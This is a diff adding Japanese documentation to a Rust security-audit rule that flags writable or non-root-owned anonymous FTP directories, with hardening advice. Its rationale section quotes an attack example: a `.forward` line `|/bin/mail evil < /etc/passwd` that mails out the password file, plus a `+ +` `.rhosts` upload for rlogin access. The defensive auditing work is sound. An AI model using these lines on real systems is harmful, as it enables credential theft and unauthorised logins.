@@ -28,6 +28,39 @@
 //! - JPCERT/CC JPCERT-E-INF-97-0001-01 (countermeasure 2)
 //! - CERT Advisory CA-93:10 and its "Anonymous FTP configuration guidelines"
 //! - COPS `ftp.chk`; Tiger `check_anonftp`
+//! <!-- ja -->
+//! # FT001 anon-ftp-root-writable
+//!
+//! ## 検出内容
+//! Anonymous FTP のルート・ディレクトリ（`~ftp`。検査対象の `etc/passwd` にある `ftp` または
+//! `anonymous` アカウントのホームディレクトリ）や、そのシステムディレクトリ（`bin`、`etc`、
+//! `dev`、`usr`、`usr/lib`）のうち、ftp 利用者が所有しているもの、ftp 利用者のグループや
+//! すべての利用者が書き込めるもの、root 以外が所有しているものを検出します。また、`~ftp/bin`
+//! や `~ftp/etc` にあるファイル（サーバが実行する `ls`、サーバが見せる `passwd`）のうち、
+//! ftp 利用者が書き込めるものも検出します。
+//!
+//! ## 重要な理由
+//! これは JPCERT-E-INF-97-0001 が警告するセキュリティホールです（対策 (2)）。`~ftp` に書き込めると、
+//! 匿名の利用者は `|/bin/mail evil < /etc/passwd` を書いた `~ftp/.forward` をアップロードして
+//! `ftp@host` にメールを送り、sendmail にそのコマンドを実行させます。あるいは `+ +` を書いた
+//! `.rhosts` をアップロードして `rlogin` でログインします。`~ftp/bin` や `~ftp/etc` に書き込めると、
+//! サーバが実行する `ls` やサーバが見せる `passwd` を置き換えられます。
+//!
+//! ## 例
+//! ```text
+//! home/ftp: mode 0777, owner ftp, group ftp (owned by the ftp user and writable by it)
+//! ```
+//!
+//! ## 対処
+//! (2) `chown root ~ftp ~ftp/bin ~ftp/etc ...; chmod 555 ~ftp`（または 755）を実行し、
+//! アップロードには別の書き込み専用の `incoming` ディレクトリ（モード 1733、root の所有）を
+//! 用意してください。`~ftp/.forward` と `~ftp/.rhosts` を探してください（FT003）。あれば、この
+//! セキュリティホールは使われています。
+//!
+//! ## 参考
+//! - JPCERT/CC JPCERT-E-INF-97-0001-01（対策 (2)）
+//! - CERT Advisory CA-93:10 とその "Anonymous FTP configuration guidelines"
+//! - COPS `ftp.chk`、Tiger `check_anonftp`
 
 use super::{AnonArea, anon_areas, describe, join};
 use crate::Context;
@@ -45,8 +78,12 @@ pub static RULE: Rule = Rule {
              root and not writable by ftp, its group or others (chmod 555 ~ftp); give uploads \
              a write-only incoming directory (mode 1733, owned by root).",
     status: RuleStatus::Stable,
-    title_ja: "",
-    advice_ja: "",
+    title_ja: "Anonymous FTP のルート・ディレクトリまたはそのシステムディレクトリが書き込み可\
+             能、または root の所有でない",
+    advice_ja: "(2) Anonymous FTP のルート・ディレクトリとその bin、etc、dev、usr ディレクトリ\
+             を root の所有にし、ftp、そのグループ、その他の利用者が書き込めないようにしてくだ\
+             さい（chmod 555 ~ftp）。アップロードには書き込み専用の incoming ディレクトリ（モ\
+             ード 1733、root の所有）を用意してください。",
     since: "0.1.0",
     source: include_str!("ft001_root_writable.rs"),
 };
